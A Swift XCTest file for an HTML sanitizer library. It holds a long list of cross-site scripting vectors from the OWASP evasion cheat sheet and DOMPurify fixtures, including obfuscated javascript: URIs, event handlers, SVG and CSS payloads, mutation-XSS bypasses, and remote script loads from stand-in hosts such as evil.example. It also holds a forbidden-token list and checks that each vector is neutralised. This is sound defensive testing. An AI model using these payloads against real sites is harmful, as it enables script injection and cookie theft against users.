import XCTest
@testable import HTMLSanitizer

/// Attack vectors written from public knowledge: the OWASP XSS filter evasion cheat sheet,
/// DOMPurify's fixtures and published mXSS bypasses, plus the spec's table (001 §5.4.3).
/// Each is sanitized with remote images blocked and allowed; the output is parsed again and every
/// element and attribute checked (`OutputVerifier`), the tags' markup searched for known payloads,
/// and the output must be stable: sanitizing it again gives it back.
final class XSSVectorTests: XCTestCase {
    static let vectors: [String] = [
        // Script elements.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<ſcript>alert(1)</ſcript><SCRİPT>alert(1)</SCRİPT>",
        // javascript: in image sources, every obfuscation.
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        // Event handlers.
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<img src=\"https://ok.example/a.png\" onerror=\"alert(1)\" onload=alert(2)>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<BODY ONLOAD=alert('XSS')>text",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>scroll</marquee>",
        "<keygen autofocus onfocus=alert(1)>",
        "<a href=\"https://ok.example/\" onclick=\"alert(1)\" ONCLICK=alert(2)>ok</a>",
        "<div/onclick=alert(1)>x</div>",
        // Links.
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"java&NewLine;script:alert(1)\">x</a>",
        "<a href=\"\u{FEFF}javascript:alert(1)\">x</a>",
        "<a href=\"javascript\u{200B}:alert(1)\">x</a>",
        "<a href=\"\u{01}javascript:alert(1)\">x</a>",
        "<a href=\"java\u{0}script:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:image/png;base64,iVBORw0KGgo=\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        // Frames, plugins, forms.
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<frame src=\"javascript:alert(1)\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<object data=\"javascript:alert(1)\"><param name=x value=y></object>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<embed src=\"javascript:alert(1)\"><embed code=javascript:alert(1)>",
        "<applet code=\"x.class\" codebase=\"http://evil.example/\"></applet>",
        "<form action=\"javascript:alert(1)\"><input type=submit value=go></form>",
        "<form><button formaction=\"javascript:alert(1)\">X</button></form>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<isindex action=\"javascript:alert(1)\" type=submit value=click>",
        "<select><option><script>alert(1)</script></select>",
        "<textarea><script>alert(1)</script></textarea>",
        // Head elements.
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<base href=\"https://evil.example/\"><a href=\"x\">relative</a>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
        "<title><script>alert(1)</script></title>",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        // CSS.
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<style>*{background:url(//evil.example/x)}</style>",
        "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
        "<XSS STYLE=\"behavior: url(xss.htc);\">",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<div style=\"width: expression(alert('XSS'));\">x</div>",
        "<div style=\"width: expr/**/ession(alert('XSS'));\">x</div>",
        "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
        "<div style=\"background:url(&#1;javascript:alert(1))\">x</div>",
        "<div style=\"background:url('//evil.example/t.gif')\">x</div>",
        "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0058\\0027\\0029'\\0029\">x</div>",
        "<div style=\"font-family:'a';background:u\\rl(x)\">x</div>",
        "<div style=\"color: red; background: image-set('https://evil.example/a.png' 1x)\">x</div>",
        "<a href=\"https://x.example/\" style=\"behavior:url(#default#time2)\">x</a>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99\">phish</div>",
        // SVG and MathML.
        "<svg/onload=alert('XSS')>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<math href=\"javascript:alert(1)\">CLICKME</math>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        // Comments, CDATA, raw text and mutation XSS.
        "<!--><script>alert(1)</script>-->",
        "<!-- <img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
        "<template><script>alert(1)</script></template><template><img src=x onerror=alert(1)></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<video poster=javascript:alert(1)//></video><audio src=x onerror=alert(1)>",
        "<picture><source srcset=\"http://evil.example/x.png\"><img src=\"data:image/png;base64,iVBORw0KGgo=\" srcset=\"javascript:alert(1) 2x\"></picture>",
        "<img srcset=\"http://evil.example/x.png 1x, javascript:alert(1) 2x\">",
        "<div id=\"cookie\" class=\"y\" name=\"z\" form=\"f\">clobber</div>",
        "<a href=\"https://ok.example/\" target=\"_self\" rel=\"opener\">ok</a>",
        "<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">quoted</p>",
    ]

    func testEveryVectorIsNeutralised() {
        XCTAssertGreaterThanOrEqual(Self.vectors.count, 60)
        for vector in Self.vectors {
            for allowRemoteImages in [false, true] {
                let options = SanitizeOptions(allowRemoteImages: allowRemoteImages)
                let result = HTMLSanitizer.sanitize(vector, options: options)
                let problems = OutputVerifier.problems(in: result.html, allowRemoteImages: allowRemoteImages)
                XCTAssertEqual(problems, [], "\(vector) → \(result.html)")
                let markup = OutputVerifier.tags(of: result.html).joined(separator: " ").lowercased()
                for forbidden in ["<script", "javascript:", "vbscript:", "expression(", "<iframe", "<object", "<embed",
                                  "<form", "<meta", "<base", "<link", "<svg", "<math", "<style", "srcset", "<input",
                                  "<button", "<textarea", "<select", "<applet", "<frame", "<noscript", "<template"]
                where markup.contains(forbidden) {
                    XCTFail("\(forbidden) in \(result.html) from \(vector)")
                }
                // Attribute names only: a title may well say "onerror=" (escaped, inside its quotes).
                let names = markup.replacingOccurrences(of: #""[^"]*""#, with: "\"\"", options: .regularExpression)
                if names.range(of: #"\son[a-z]+\s*="#, options: .regularExpression) != nil {
                    XCTFail("event handler in \(result.html) from \(vector)")
                }
                let again = HTMLSanitizer.sanitize(result.html, options: options)
                if result.remoteImagesBlocked == 0 {
                    XCTAssertEqual(again.html, result.html, "not stable: \(vector)")
                }
                XCTAssertEqual(again.trackersBlocked, 0, vector)
            }
        }
    }

    func testScriptTextNeverBecomesMarkup() {
        let result = HTMLSanitizer.sanitize("<xmp><script>alert(1)</script></xmp>")
        XCTAssertEqual(result.html, "&lt;script&gt;alert(1)&lt;/script&gt;")
        XCTAssertEqual(HTMLSanitizer.sanitize("<plaintext><b>x</b>").html, "&lt;b&gt;x&lt;/b&gt;")
    }

    func testQuotedAttributeStaysOneAttribute() {
        let result = HTMLSanitizer.sanitize("<p title=\"&quot; onmouseover=&quot;alert(1)\">x</p>")
        XCTAssertEqual(result.html, "<p title=\"&quot; onmouseover=&quot;alert(1)\">x</p>")
    }

    func testDisallowedLinksKeepTheirTextOnly() {
        for href in ["javascript:alert(1)", "jav&#x09;ascript:alert(1)", "data:text/html,x", "/api/index/rebuild", "#top", "x"] {
            XCTAssertEqual(HTMLSanitizer.sanitize("<a href=\"\(href)\">click</a>").html, "<a>click</a>", href)
        }
    }

    func testDeepNestingIsBoundedAndDoesNotCrash() {
        let depth = 20_000
        let html = String(repeating: "<div>", count: depth) + "deep" + String(repeating: "</div>", count: depth)
        let result = HTMLSanitizer.sanitize(html)
        XCTAssertTrue(result.html.contains("deep"))
        XCTAssertEqual(result.html.components(separatedBy: "<div>").count - 1, HTMLSanitizer.maximumDepth)
        XCTAssertFalse(result.isEmpty)
    }
}
